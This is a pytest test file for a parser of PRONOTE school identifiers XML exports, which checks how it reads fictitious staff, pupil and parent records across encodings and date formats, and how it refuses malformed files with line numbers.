"""_identifiers: reading the PRONOTE identifiers file, its variants, its refusals (with their line) and hostile files."""
from __future__ import annotations

import datetime as dt
import os
import time
from pathlib import Path
from xml.sax.saxutils import escape

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ansible_collections.ent.pronote.plugins.module_utils._errors import EntPronoteError, ValidationError
from ansible_collections.ent.pronote.plugins.module_utils._identifiers import (
    BY_CONTAINER,
    BY_ELEMENT,
    BY_KEY,
    BY_PROFILE,
    CATEGORIES,
    CATEGORY_KEYS,
    DEFAULT_MAX_BYTES,
    IdentifiersFile,
    IdentifiersFileError,
    Person,
    category,
    read_identifiers,
)

FIXTURES = Path(__file__).parent / "fixtures" / "identifiants"
NS = "http://www.index-education.com/identifiantspronote"
UAI = "0671234C"
HOSTILE_BOUND = 1.0  # seconds: hostile files are refused in far less


def ident(n: int, prefix: str = "73WNQJFY5T8H") -> str:
    """A valid Identifiant PRONOTE-ENT, distinct for each n."""
    return f"{prefix}{n:04d}"[-16:]


# --- a builder for identifiers files ------------------------------------------------------

HEADER = {"Version": "1.0", "DateExport": "2025-09-01T08:30:00", "Logiciel": "PRONOTE 2025",
          "UAI": UAI, "NomEtablissement": "Collège Cœur d’Été", "UniquementSansIdentifiantCAS": "false"}


def sample() -> dict[str, list[dict]]:
    """One person or two in each category, every attribute used once."""
    return {
        "Professeurs": [
            {"Identifiant": ident(1), "Nom": "ALBERT", "Prenom": "Marie-Désirée", "DateNaissance": dt.date(1975, 4, 2),
             "CodePostal": "13001", "IdentifiantCAS": "marie.albert"},
            {"Identifiant": ident(2), "Nom": "GERVAIS", "Prenom": "Florence"},
        ],
        "Eleves": [
            {"Identifiant": ident(10), "Nom": "BŒUF", "Prenom": "Léa", "DateNaissance": dt.date(2012, 2, 29),
             "Classe": "5A"},
            {"Identifiant": ident(11), "Nom": "D’ALMEIDA", "Prenom": "Noé", "DateNaissance": dt.date(2011, 12, 31),
             "Classe": "4B", "DateSortie": dt.date(2025, 6, 30)},
        ],
        "Responsables": [
            {"Identifiant": ident(20), "Nom": "BŒUF", "Prenom": "Hélène", "AccesEspaceParents": "true",
             "_enfants": [ident(10)]},
            {"Identifiant": ident(21), "Nom": "D'ALMEIDA", "Prenom": "José", "AccesEspaceParents": "false",
             "_enfants": [ident(11), ident(999)]},
            {"Identifiant": ident(22), "Nom": "NGUYỄN", "Prenom": "Thị", "_enfants": []},
        ],
        "MaitresDeStage": [{"Identifiant": ident(30), "Nom": "LEMAÎTRE", "Prenom": "Véronique"}],
        "InspecteursPedagogiques": [{"Identifiant": ident(40), "Nom": "MILLOT", "Prenom": "Brigitte",
                                     "DateNaissance": dt.date(1968, 1, 15)}],
        "Personnels": [{"Identifiant": ident(50), "Nom": "SUPPORT", "Prenom": "Personnel"}],
    }


def _value(value, dates: str) -> str:
    if isinstance(value, dt.date):
        return value.strftime("%Y-%m-%d" if dates == "iso" else "%d/%m/%Y")
    return str(value)


def _attrs(attrs: dict, dates: str) -> str:
    return "".join(f' {k}="{escape(_value(v, dates), {chr(34): "&quot;"})}"'
                   for k, v in attrs.items() if not k.startswith("_"))


def build(categories: dict[str, list[dict]] | None = None, *, header: dict | None = None, namespace: str | None = None,
          prefix: str | None = None, encoding: str | None = "UTF-8", declare: bool = True, bom: bool = False,
          crlf: bool = False, dates: str = "iso", root: str = "IdentifiantsPRONOTE", inside_root: str = "",
          codec: str | None = None) -> bytes:
    """An identifiers file, one element per line, as bytes.

    ``categories`` maps a container (``Eleves``...) to its people's attributes
    (dates as ``datetime.date``, written per ``dates``: ``iso`` or ``fr``);
    ``_enfants`` lists a responsable's children and ``_inner`` is raw XML put
    inside the person's element. Characters the encoding lacks become
    character references, as a careful writer would do.
    """
    categories = sample() if categories is None else categories
    attrs = dict(HEADER if header is None else header)
    q = f"{prefix}:" if prefix else ""
    xmlns = ""
    if namespace:
        xmlns = f' xmlns{":" + prefix if prefix else ""}="{namespace}"'
    lines = []
    if declare:
        enc = f' encoding="{encoding}"' if encoding else ""
        lines.append(f'<?xml version="1.0"{enc}?>')
    lines.append(f"<{q}{root}{xmlns}{_attrs(attrs, dates)}>")
    if inside_root:
        lines.append(inside_root)
    for container, people in categories.items():
        lines.append(f"  <{q}{container}>")
        element = BY_CONTAINER[container].element if container in BY_CONTAINER else container[:-1]
        for person in people:
            inner = person.get("_inner", "")
            enfants = person.get("_enfants")
            if enfants is None and not inner:
                lines.append(f"    <{q}{element}{_attrs(person, dates)}/>")
                continue
            lines.append(f"    <{q}{element}{_attrs(person, dates)}>")
            for child in enfants or ():
                lines.append(f'      <{q}Enfant Identifiant="{child}"/>')
            if inner:
                lines.append(f"      {inner}")
            lines.append(f"    </{q}{element}>")
        lines.append(f"  </{q}{container}>")
    lines.append(f"</{q}{root}>")
    text = ("\r\n" if crlf else "\n").join(lines) + ("\r\n" if crlf else "\n")
    python_codec = codec or {"UTF-8": "utf-8", "ISO-8859-1": "latin-1", "windows-1252": "cp1252",
                             "US-ASCII": "ascii", None: "utf-8"}.get(encoding, "utf-8")
    data = text.encode(python_codec, errors="xmlcharrefreplace")
    return (b"\xef\xbb\xbf" if bom else b"") + data


def line_of(data: bytes, needle: str, nth: int = 1) -> int:
    """The line (1-based) of the nth occurrence of ``needle`` in the file."""
    raw = needle.encode("utf-8")
    at = -1
    for _ in range(nth):
        at = data.index(raw, at + 1)
    return data.count(b"\n", 0, at) + 1


def refused(data, **kwargs) -> IdentifiersFileError:
    with pytest.raises(IdentifiersFileError) as err:
        read_identifiers(data, **kwargs)
    return err.value


# --- the categories -------------------------------------------------------------------------

def test_categories_are_the_six_steps_in_order():
    assert [(c.step, c.key, c.title, c.container, c.element, c.profile) for c in CATEGORIES] == [
        (1, "enseignants", "Enseignants", "Professeurs", "Professeur", "Enseignant"),
        (2, "eleves", "Élèves", "Eleves", "Eleve", "Elève"),
        (3, "responsables", "Responsables", "Responsables", "Responsable", "Parent"),
        (4, "maitres_de_stage", "Maîtres de stage", "MaitresDeStage", "MaitreDeStage", "Maître de stage"),
        (5, "inspecteurs", "Inspecteurs pédagogiques", "InspecteursPedagogiques", "InspecteurPedagogique",
         "Inspecteur"),
        (6, "personnels", "Personnels", "Personnels", "Personnel", "Personnel"),
    ]
    assert CATEGORY_KEYS == tuple(c.key for c in CATEGORIES)


@pytest.mark.parametrize("cat", CATEGORIES, ids=lambda c: c.key)
def test_category_lookups_agree(cat):
    assert BY_KEY[cat.key] is cat
    assert BY_CONTAINER[cat.container] is cat
    assert BY_ELEMENT[cat.element] is cat
    assert BY_PROFILE[cat.profile] is cat
    assert category(cat.key) is cat


def test_category_unknown_key_names_the_known_ones():
    with pytest.raises(KeyError, match="enseignants, eleves"):
        category("parents")


def test_categories_are_frozen():
    with pytest.raises(AttributeError):
        CATEGORIES[0].profile = "Prof"  # type: ignore[misc]


# --- reading a good file ----------------------------------------------------------------------

def test_reads_every_field_of_the_sample():
    data = build()
    file = read_identifiers(data)
    assert isinstance(file, IdentifiersFile)
    assert file.uai == UAI
    assert file.version == "1.0"
    assert file.exported_at == dt.datetime(2025, 9, 1, 8, 30)
    assert file.software == "PRONOTE 2025"
    assert file.school_name == "Collège Cœur d’Été"
    assert file.only_without_cas is False
    assert [p.ident for p in file.people] == [ident(n) for n in (1, 2, 10, 11, 20, 21, 22, 30, 40, 50)]
    albert = file.person(ident(1))
    assert albert == Person(ident(1), "enseignants", "ALBERT", "Marie-Désirée", dt.date(1975, 4, 2), "13001",
                            "marie.albert", None, None, None, (), line_of(data, ident(1)))
    gervais = file.person(ident(2))
    assert (gervais.birth_date, gervais.postal_code, gervais.cas_login) == (None, None, None)
    lea = file.person(ident(10))
    assert (lea.category, lea.nom, lea.prenom, lea.birth_date, lea.classe, lea.left_on) == (
        "eleves", "BŒUF", "Léa", dt.date(2012, 2, 29), "5A", None)
    assert lea.parent_access is None and lea.children == ()
    noe = file.person(ident(11))
    assert noe.left_on == dt.date(2025, 6, 30) and noe.nom == "D’ALMEIDA"
    helene, jose, thi = (file.person(ident(n)) for n in (20, 21, 22))
    assert (helene.parent_access, helene.children) == (True, (ident(10),))
    assert (jose.parent_access, jose.children) == (False, (ident(11), ident(999)))
    assert (thi.parent_access, thi.children, thi.nom, thi.prenom) == (True, (), "NGUYỄN", "Thị")
    assert file.person(ident(30)).category == "maitres_de_stage"
    assert file.person(ident(40)).category == "inspecteurs"
    assert file.person(ident(50)).category == "personnels"
    assert file.person(ident(999)) is None


def test_person_lines_are_the_lines_of_their_elements():
    data = build(crlf=True)
    file = read_identifiers(data)
    for person in file.people:
        assert person.line == line_of(data, f'Identifiant="{person.ident}"'), person


def test_counts_and_by_category():
    file = read_identifiers(build())
    assert file.counts() == {"enseignants": 2, "eleves": 2, "responsables": 3, "maitres_de_stage": 1,
                             "inspecteurs": 1, "personnels": 1}
    assert len(file) == 10
    assert [p.ident for p in file.by_category("eleves")] == [ident(10), ident(11)]
    assert file.by_category("personnels")[0].nom == "SUPPORT"
    with pytest.raises(KeyError):
        file.by_category("Eleve")


def test_an_empty_file_of_people_is_read():
    file = read_identifiers(build({}))
    assert file.people == ()
    assert file.counts() == dict.fromkeys(CATEGORY_KEYS, 0)


def test_empty_containers_are_read():
    file = read_identifiers(build({c.container: [] for c in CATEGORIES}))
    assert file.people == ()


def test_optional_header_attributes():
    header = {"Version": "2", "DateExport": "2025-09-01T08:30:00", "UAI": UAI}
    file = read_identifiers(build(header=header))
    assert (file.software, file.school_name, file.only_without_cas) == (None, None, False)


@pytest.mark.parametrize("value, expected", [("true", True), ("false", False), ("1", True), ("0", False),
                                             (" true ", True), ("TRUE", True), ("False", False)])
def test_booleans(value, expected):
    header = dict(HEADER, UniquementSansIdentifiantCAS=value)
    people = {"Responsables": [{"Identifiant": ident(1), "Nom": "A", "Prenom": "B", "AccesEspaceParents": value}]}
    file = read_identifiers(build(people, header=header))
    assert file.only_without_cas is expected
    assert file.people[0].parent_access is expected


def test_blank_booleans_take_their_default():
    header = dict(HEADER, UniquementSansIdentifiantCAS=" ")
    people = {"Responsables": [{"Identifiant": ident(1), "Nom": "A", "Prenom": "B", "AccesEspaceParents": ""}]}
    file = read_identifiers(build(people, header=header))
    assert file.only_without_cas is False
    assert file.people[0].parent_access is True


def test_parent_access_defaults_to_true_and_is_none_outside_responsables():
    people = {"Professeurs": [{"Identifiant": ident(1), "Nom": "A", "Prenom": "B", "AccesEspaceParents": "false"}],
              "Responsables": [{"Identifiant": ident(2), "Nom": "A", "Prenom": "C"}]}
    file = read_identifiers(build(people))
    assert file.people[0].parent_access is None  # not a responsable's attribute: ignored
    assert file.people[1].parent_access is True


@pytest.mark.parametrize("text, expected", [
    ("2025-09-01T08:30:00", dt.datetime(2025, 9, 1, 8, 30)),
    ("2025-09-01T08:30", dt.datetime(2025, 9, 1, 8, 30)),
    ("2025-09-01 08:30:05", dt.datetime(2025, 9, 1, 8, 30, 5)),
    ("2025-09-01T08:30:00.123", dt.datetime(2025, 9, 1, 8, 30, 0, 123000)),
    ("2025-09-01T08:30:00.1234567", dt.datetime(2025, 9, 1, 8, 30, 0, 123456)),
    ("2025-09-01T08:30:00Z", dt.datetime(2025, 9, 1, 8, 30, tzinfo=dt.timezone.utc)),
    ("2025-09-01T08:30:00+02:00", dt.datetime(2025, 9, 1, 8, 30, tzinfo=dt.timezone(dt.timedelta(hours=2)))),
    ("2025-09-01T08:30:00-05:30",
     dt.datetime(2025, 9, 1, 8, 30, tzinfo=dt.timezone(-dt.timedelta(hours=5, minutes=30)))),
    ("01/09/2025 08:30:00", dt.datetime(2025, 9, 1, 8, 30)),
    ("01/09/2025", dt.datetime(2025, 9, 1)),
    ("2025-09-01", dt.datetime(2025, 9, 1)),
    (" 2025-09-01T08:30:00 ", dt.datetime(2025, 9, 1, 8, 30)),
])
def test_export_date_formats(text, expected):
    file = read_identifiers(build({}, header=dict(HEADER, DateExport=text)))
    assert file.exported_at == expected


@pytest.mark.parametrize("dates", ["iso", "fr"])
def test_birth_dates_in_both_formats(dates):
    file = read_identifiers(build(dates=dates))
    assert file.person(ident(10)).birth_date == dt.date(2012, 2, 29)
    assert file.person(ident(11)).left_on == dt.date(2025, 6, 30)


def test_mixed_date_formats_in_one_file():
    people = {"Eleves": [
        {"Identifiant": ident(1), "Nom": "A", "Prenom": "B", "DateNaissance": "2012-03-04"},
        {"Identifiant": ident(2), "Nom": "A", "Prenom": "C", "DateNaissance": "04/03/2012", "DateSortie": " 2025-07-01 "},
    ]}
    first, second = read_identifiers(build(people)).people
    assert first.birth_date == second.birth_date == dt.date(2012, 3, 4)
    assert second.left_on == dt.date(2025, 7, 1)


@pytest.mark.parametrize("attribute", ["DateNaissance", "CodePostal", "IdentifiantCAS", "Classe", "DateSortie"])
@pytest.mark.parametrize("blank", ["", "  "])
def test_blank_optional_attributes_are_absent(attribute, blank):
    people = {"Eleves": [{"Identifiant": ident(1), "Nom": "A", "Prenom": "B", attribute: blank}]}
    person = read_identifiers(build(people)).people[0]
    assert (person.birth_date, person.postal_code, person.cas_login, person.classe, person.left_on) == (None,) * 5


def test_names_are_kept_exactly_as_written():
    people = {"Eleves": [{"Identifiant": ident(1), "Nom": "  de La  Fontaine ", "Prenom": "Jean-\u0301Baptiste"}]}
    person = read_identifiers(build(people)).people[0]
    assert person.nom == "  de La  Fontaine "
    assert person.prenom == "Jean-\u0301Baptiste"


def test_unknown_attributes_are_ignored():
    people = {"Eleves": [{"Identifiant": ident(1), "Nom": "A", "Prenom": "B", "Sexe": "F", "INE": "123"}]}
    header = dict(HEADER, Extension="x")
    file = read_identifiers(build(people, header=header))
    assert file.people[0].nom == "A"


def test_schema_location_attribute_is_ignored():
    data = build().replace(b"<IdentifiantsPRONOTE ", b'<IdentifiantsPRONOTE xmlns:xsi="http://www.w3.org/2001/'
                           b'XMLSchema-instance" xsi:noNamespaceSchemaLocation="identifiants-pronote.xsd" ')
    assert len(read_identifiers(data).people) == 10


def test_comments_and_processing_instructions_are_ignored():
    data = build(inside_root="<!-- exporté par PRONOTE --><?pronote version?>")
    data = data.replace(b"<Eleves>", b"<Eleves><!-- les \xc3\xa9l\xc3\xa8ves -->")
    file = read_identifiers(data)
    assert len(file.people) == 10


def test_duplicate_enfant_is_read_once():
    people = {"Eleves": [{"Identifiant": ident(1), "Nom": "A", "Prenom": "B"}],
              "Responsables": [{"Identifiant": ident(2), "Nom": "A", "Prenom": "C", "_enfants": [ident(1), ident(1)]}]}
    assert read_identifiers(build(people)).people[1].children == (ident(1),)


def test_enfant_absent_from_a_partial_file_is_accepted():
    people = {"Responsables": [{"Identifiant": ident(2), "Nom": "A", "Prenom": "C", "_enfants": [ident(77)]}]}
    assert read_identifiers(build(people, header=dict(HEADER, UniquementSansIdentifiantCAS="true"))).people[0] \
        .children == (ident(77),)


def test_enfant_declared_after_its_responsable_is_accepted():
    # Eleves come before Responsables in the schema, but the check is made once the whole file is read
    people = {"Eleves": [{"Identifiant": ident(1), "Nom": "A", "Prenom": "B"}],
              "Responsables": [{"Identifiant": ident(2), "Nom": "A", "Prenom": "C", "_enfants": [ident(1)]}]}
    assert read_identifiers(build(people)).people[1].children == (ident(1),)


# --- variants: namespaces, encodings, BOM, line ends ----------------------------------------------

VARIANTS = {
    "utf8-declared": dict(),
    "utf8-undeclared": dict(encoding=None),
    "no-declaration": dict(declare=False),
    "utf8-lowercase-name": dict(encoding="utf-8", codec="utf-8"),
    "utf8-bom": dict(bom=True),
    "utf8-bom-no-declaration": dict(bom=True, declare=False),
    "iso-8859-1": dict(encoding="ISO-8859-1"),
    "latin1-alias": dict(encoding="latin1", codec="latin-1"),
    "windows-1252": dict(encoding="windows-1252"),
    "cp1252-alias": dict(encoding="cp1252", codec="cp1252"),
    "us-ascii": dict(encoding="US-ASCII"),
    "crlf": dict(crlf=True),
    "default-namespace": dict(namespace=NS),
    "prefixed-namespace": dict(namespace=NS, prefix="ip"),
    "other-namespace": dict(namespace="urn:autre:chose"),
    "french-dates": dict(dates="fr"),
    "everything": dict(namespace=NS, prefix="p", encoding="windows-1252", crlf=True, dates="fr"),
    "bom-crlf-namespace": dict(bom=True, crlf=True, namespace=NS),
}


@pytest.mark.parametrize("variant", VARIANTS.values(), ids=list(VARIANTS))
def test_every_variant_reads_the_same(variant):
    expected = read_identifiers(build())
    data = build(**variant)
    file = read_identifiers(data)
    assert file.uai == expected.uai
    assert file.school_name == "Collège Cœur d’Été"
    assert [(p.ident, p.category, p.nom, p.prenom, p.birth_date, p.left_on, p.children, p.parent_access,
             p.cas_login) for p in file.people] == \
        [(p.ident, p.category, p.nom, p.prenom, p.birth_date, p.left_on, p.children, p.parent_access, p.cas_login)
         for p in expected.people]
    for person in file.people:
        assert person.line == line_of(data, f'Identifiant="{person.ident}"')


def test_windows_1252_characters_are_decoded():
    people = {"Eleves": [{"Identifiant": ident(1), "Nom": "BŒUF", "Prenom": "Zoë’s"}]}
    data = build(people, encoding="windows-1252")
    assert "Œ".encode("cp1252") in data and b"&#" not in data  # written as single bytes, not as references
    assert read_identifiers(data).people[0].nom == "BŒUF"
    assert read_identifiers(data).people[0].prenom == "Zoë’s"


def test_iso_8859_1_bytes_are_decoded_as_latin_1():
    data = ('<?xml version="1.0" encoding="ISO-8859-1"?>\n<IdentifiantsPRONOTE Version="1" DateExport="2025-09-01T00:00:00"'
            f' UAI="{UAI}"><Eleves><Eleve Identifiant="{ident(1)}" Nom="Hélène" Prenom="x\x80"/></Eleves>'
            '</IdentifiantsPRONOTE>').encode("latin-1")
    person = read_identifiers(data).people[0]
    assert person.nom == "Hélène"
    assert person.prenom == "x\x80"  # a C1 control in ISO-8859-1, the euro sign only in windows-1252


def test_character_references_are_decoded():
    people = {"Eleves": [{"Identifiant": ident(1), "Nom": "NGUYỄN", "Prenom": "Thị"}]}
    data = build(people, encoding="US-ASCII")
    assert b"&#7876;" in data
    assert read_identifiers(data).people[0].nom == "NGUYỄN"


def test_bom_with_utf8_declaration():
    data = build(bom=True)
    assert data.startswith(b"\xef\xbb\xbf<?xml")
    assert len(read_identifiers(data).people) == 10


def test_single_quoted_declaration_and_standalone():
    data = build().replace(b'<?xml version="1.0" encoding="UTF-8"?>',
                           b"<?xml version='1.0' encoding='UTF-8' standalone='yes' ?>")
    assert len(read_identifiers(data).people) == 10


def test_lines_are_right_with_a_multi_line_declaration():
    data = build().replace(b'<?xml version="1.0" encoding="UTF-8"?>', b'<?xml version="1.0"\n encoding="UTF-8"?>')
    file = read_identifiers(data)
    assert file.people[0].line == line_of(data, ident(1)) == 5


# --- sources: bytes, paths ----------------------------------------------------------------------

def test_reads_from_a_str_path_and_a_pathlike(tmp_path):
    path = tmp_path / "export.xml"
    path.write_bytes(build())
    assert read_identifiers(str(path)) == read_identifiers(path) == read_identifiers(build())


def test_reads_from_bytearray_and_memoryview():
    data = build()
    assert read_identifiers(bytearray(data)) == read_identifiers(memoryview(data)) == read_identifiers(data)


def test_errors_name_the_file_when_given_a_path(tmp_path):
    path = tmp_path / "0671234C.xml"
    data = build().replace(ident(10).encode(), b"TROPCOURT")
    path.write_bytes(data)
    err = refused(path)
    assert str(path) in str(err)
    assert err.filename == str(path)
    assert err.line == line_of(data, "TROPCOURT")
    assert f"ligne {err.line}" in str(err)


def test_a_missing_file_is_refused_with_its_name(tmp_path):
    err = refused(tmp_path / "absent.xml")
    assert "absent.xml" in str(err) and "illisible" in str(err)


def test_a_directory_is_refused(tmp_path):
    err = refused(str(tmp_path))
    assert f"{tmp_path} est un répertoire, pas un fichier ordinaire" in str(err)


def test_error_classes():
    err = refused(b"<x/>")
    assert isinstance(err, ValidationError) and isinstance(err, EntPronoteError)
    assert err.problems == [err.cause]
    assert str(err).startswith("Fichier d'identifiants PRONOTE refusé (ligne 1 : ")


# --- size -----------------------------------------------------------------------------------------

def test_default_max_bytes_is_50_mib():
    assert DEFAULT_MAX_BYTES == 50 * 1024 * 1024


def test_bytes_over_the_limit_are_refused_before_parsing():
    data = b"<not xml at all" * 100
    err = refused(data, max_bytes=len(data) - 1)
    assert "le fichier fait 1500 octets, plus que les 1499 permis" in err.cause and err.line is None
    read_identifiers(build(), max_bytes=len(build()))  # exactly the limit is fine


def test_a_path_over_the_limit_is_refused_before_reading(tmp_path):
    path = tmp_path / "gros.xml"
    path.write_bytes(build())
    err = refused(path, max_bytes=100)
    assert f"le fichier fait {path.stat().st_size} octets, plus que les 100 permis" in str(err)
    assert str(path) in str(err)


# --- refusals, each with its line ------------------------------------------------------------------

def _people(**changes) -> dict:
    """The sample with one person's attributes changed: changes = {ident_number: {attr: value or None}}."""
    categories = sample()
    for people in categories.values():
        for person in people:
            for number, attrs in changes.items():
                if person["Identifiant"] == ident(int(number[1:])):
                    for k, v in attrs.items():
                        if v is None:
                            person.pop(k, None)
                        else:
                            person[k] = v
    return categories


def _replace(old: str, new: str):
    return lambda: build().replace(old.encode(), new.encode())


REFUSALS = {
    # name: (make the file, text on the refused line (None: line 1), words of the cause)
    "unclosed-tag": (_replace("</Eleves>", "</Eleve>"), "</Eleve>\n  <Responsables>", "XML mal formé"),
    "garbage-after-root": (lambda: build() + b"<autre/>", "<autre/>", "XML mal formé"),
    "not-xml": (lambda: b"Identifiant;Nom;Prenom\n73WNQJFY5T8H0001;A;B\n", None, "XML mal formé"),
    "wrong-root": (lambda: build(root="Identifiants"), "<Identifiants ", "l'élément racine est <Identifiants>"),
    "rapprochement-root": (lambda: build(root="PARTENAIRE_INDEX"), "<PARTENAIRE_INDEX", "<IdentifiantsPRONOTE> attendu"),
    "unknown-category": (lambda: build({"Professeurs": [], "Etudiants": []}), "<Etudiants>",
                         "élément <Etudiants> inconnu là où une catégorie est attendue"),
    "category-twice": (lambda: build({"Eleves": [], "Responsables": []}).replace(b"<Responsables>", b"<Eleves>")
                       .replace(b"</Responsables>", b"</Eleves>"), "<Eleves>\n  </Eleves>\n</Identifiants",
                       "<Eleves> figure deux fois (d'abord ligne 3)"),
    "categories-out-of-order": (lambda: build({"Responsables": [], "Eleves": []}), "<Eleves>",
                                "<Eleves> vient après <Responsables>"),
    "person-in-wrong-container": (_replace('<Eleve Identifiant="73WNQJFY5T8H0010"',
                                           '<Professeur Identifiant="73WNQJFY5T8H0010"'),
                                  '<Professeur Identifiant="73WNQJFY5T8H0010"',
                                  "élément <Professeur> inconnu dans <Eleves> : <Eleve> attendu"),
    "missing-identifiant": (lambda: build(_people(n10={"Identifiant": None})), 'Nom="BŒUF" Prenom="Léa"',
                            "<Eleve> n'a pas d'attribut Identifiant"),
    "missing-nom": (lambda: build(_people(n2={"Nom": None})), ident(2), "<Professeur> n'a pas d'attribut Nom"),
    "missing-prenom": (lambda: build(_people(n50={"Prenom": None})), ident(50), "<Personnel> n'a pas d'attribut Prenom"),
    "missing-uai": (lambda: build(header={k: v for k, v in HEADER.items() if k != "UAI"}), "<IdentifiantsPRONOTE",
                    "pas d'attribut UAI"),
    "missing-version": (lambda: build(header={k: v for k, v in HEADER.items() if k != "Version"}),
                        "<IdentifiantsPRONOTE", "pas d'attribut Version"),
    "missing-date-export": (lambda: build(header={k: v for k, v in HEADER.items() if k != "DateExport"}),
                            "<IdentifiantsPRONOTE", "pas d'attribut DateExport"),
    "ident-lowercase": (_replace(ident(1), "73wnqjfy5t8h0001"), "73wnqjfy5t8h0001", "n'est pas fait de 16 caractères A-Z et 0-9"),
    "ident-15": (_replace(ident(1), ident(1)[:-1]), f'"{ident(1)[:-1]}"', "n'est pas fait de 16 caractères"),
    "ident-17": (_replace(ident(1), ident(1) + "X"), ident(1) + "X", "n'est pas fait de 16 caractères"),
    "ident-space": (_replace(ident(30), ident(30)[:8] + " " + ident(30)[9:]), ident(30)[:8] + " ", "n'est pas fait de 16"),
    "ident-trailing-space": (_replace(f'"{ident(30)}"', f'"{ident(30)} "'), f"{ident(30)} ", "n'est pas fait de 16"),
    "ident-accent": (_replace(ident(40), "É" + ident(40)[1:]), "É" + ident(40)[1:], "n'est pas fait de 16"),
    "ident-hyphen": (_replace(ident(40), ident(40)[:15] + "-"), ident(40)[:15] + "-", "n'est pas fait de 16"),
    "ident-empty": (_replace(f'Identifiant="{ident(40)}"', 'Identifiant=""'), 'Identifiant=""', "n'est pas fait de 16"),
    "enfant-bad-ident": (_replace(f'Enfant Identifiant="{ident(10)}"', 'Enfant Identifiant="PASBON"'), "PASBON",
                         "Identifiant 'PASBON' de <Enfant> n'est pas fait de 16 caractères"),
    "enfant-no-ident": (_replace(f'Enfant Identifiant="{ident(10)}"', 'Enfant Ident="x"'), 'Ident="x"',
                        "<Enfant> n'a pas d'attribut Identifiant"),
    "uai-pattern": (lambda: build(header=dict(HEADER, UAI="067123C")), "<IdentifiantsPRONOTE", "n'est pas un UAI"),
    "uai-lowercase": (lambda: build(header=dict(HEADER, UAI="0671234c")), "<IdentifiantsPRONOTE", "n'est pas un UAI"),
    "uai-check-letter": (lambda: build(header=dict(HEADER, UAI="0671234D")), "<IdentifiantsPRONOTE",
                         "check letter should be C"),
    "uai-empty": (lambda: build(header=dict(HEADER, UAI="")), "<IdentifiantsPRONOTE", "n'est pas un UAI"),
    "date-feb-30": (lambda: build(_people(n10={"DateNaissance": "2012-02-30"})), ident(10),
                    "DateNaissance '2012-02-30' n'est pas une date"),
    "date-fr-31-04": (lambda: build(_people(n1={"DateNaissance": "31/04/1975"})), ident(1),
                      "DateNaissance '31/04/1975' n'est pas une date (aaaa-mm-jj ou jj/mm/aaaa)"),
    "date-slashes-iso": (lambda: build(_people(n40={"DateNaissance": "1968/01/15"})), ident(40), "pas une date"),
    "date-dashes-fr": (lambda: build(_people(n40={"DateNaissance": "15-01-1968"})), ident(40), "pas une date"),
    "date-short": (lambda: build(_people(n40={"DateNaissance": "1/2/1968"})), ident(40), "pas une date"),
    "date-with-zone": (lambda: build(_people(n40={"DateNaissance": "1968-01-15Z"})), ident(40), "pas une date"),
    "date-words": (lambda: build(_people(n40={"DateNaissance": "inconnue"})), ident(40), "pas une date"),
    "date-arabic-digits": (lambda: build(_people(n40={"DateNaissance": "١٩٦٨-01-15"})), ident(40), "pas une date"),
    "date-sortie": (lambda: build(_people(n11={"DateSortie": "2025-13-01"})), ident(11), "DateSortie '2025-13-01'"),
    "date-export": (lambda: build(header=dict(HEADER, DateExport="hier")), "<IdentifiantsPRONOTE",
                    "DateExport 'hier' n'est pas une date et une heure"),
    "date-export-bad-hour": (lambda: build(header=dict(HEADER, DateExport="2025-09-01T25:00:00")),
                             "<IdentifiantsPRONOTE", "DateExport"),
    "boolean-acces": (lambda: build(_people(n20={"AccesEspaceParents": "oui"})), ident(20),
                      "AccesEspaceParents 'oui' n'est pas un booléen (true, false, 1 ou 0)"),
    "boolean-header": (lambda: build(header=dict(HEADER, UniquementSansIdentifiantCAS="yes")), "<IdentifiantsPRONOTE",
                       "UniquementSansIdentifiantCAS 'yes' n'est pas un booléen"),
    "child-element-of-teacher": (lambda: build(_people(n2={"_inner": "<Classe Nom='5A'/>"})), "<Classe",
                                 "élément <Classe> inattendu dans <Professeur>"),
    "other-child-of-responsable": (lambda: build(_people(n20={"_inner": "<Eleve/>"})), "<Eleve/>",
                                   "seul <Enfant> peut y figurer"),
    "element-inside-enfant": (_replace(f'<Enfant Identifiant="{ident(10)}"/>',
                                       f'<Enfant Identifiant="{ident(10)}"><X/></Enfant>'), "<X/>",
                              "élément <X> inattendu dans <Enfant>"),
    "text-inside-person": (lambda: build(_people(n2={"_inner": "bonjour"})), "bonjour", "texte 'bonjour' inattendu"),
    "text-inside-root": (lambda: build(inside_root="du texte"), "du texte", "texte 'du texte' inattendu"),
    "text-inside-container": (_replace("<Personnels>", "<Personnels>texte"), "texte", "texte 'texte' inattendu"),
    "undeclared-entity": (_replace('Nom="GERVAIS"', 'Nom="&gervais;"'), "&gervais;", "Entity 'gervais' not defined"),
}


@pytest.mark.parametrize("name", list(REFUSALS))
def test_refusals_name_the_problem_and_its_line(name):
    make, needle, words = REFUSALS[name]
    data = make()
    err = refused(data)
    expected_line = 1 if needle is None else line_of(data, needle)
    assert err.line == expected_line, (str(err), expected_line)
    assert words in err.cause, str(err)
    assert f"ligne {expected_line} : " in str(err)


@pytest.mark.parametrize("first, second, element_a, element_b", [
    (1, 50, "Professeur", "Personnel"), (10, 20, "Eleve", "Responsable"),
    (40, 41, "InspecteurPedagogique", "InspecteurPedagogique"), (11, 30, "Eleve", "MaitreDeStage"),
    (2, 1, "Professeur", "Professeur"),
])
def test_an_identifier_given_twice_names_both_lines(first, second, element_a, element_b):
    categories = sample()
    categories["InspecteursPedagogiques"].append({"Identifiant": ident(41), "Nom": "X", "Prenom": "Y"})
    data = build(categories).replace(f'"{ident(second)}"'.encode(), f'"{ident(first)}"'.encode())
    err = refused(data)
    line_a = line_of(data, f'<{element_a} Identifiant="{ident(first)}"')
    line_b = line_of(data, f'<{element_b} Identifiant="{ident(first)}"', 2 if element_a == element_b else 1)
    assert err.line == line_b
    assert f"l'Identifiant {ident(first)} est donné à deux personnes : le {element_a} ligne {line_a} et le " \
           f"{element_b} ligne {line_b}" in err.cause


@pytest.mark.parametrize("target, element", [(1, "Professeur"), (30, "MaitreDeStage"), (21, "Responsable"),
                                             (50, "Personnel"), (20, None)])
def test_enfant_pointing_to_a_non_pupil_is_refused(target, element):
    data = build().replace(f'<Enfant Identifiant="{ident(10)}"/>'.encode(),
                           f'<Enfant Identifiant="{ident(target)}"/>'.encode())
    err = refused(data)
    assert err.line == line_of(data, f'<Enfant Identifiant="{ident(target)}"/>')
    if element is None:
        assert f"l'Enfant {ident(20)} est ce Responsable lui-même, pas un Eleve" in err.cause
    else:
        where = line_of(data, f'<{element} Identifiant="{ident(target)}"')
        assert f"l'Enfant {ident(target)} est le {element} de la ligne {where}, pas un Eleve" in err.cause


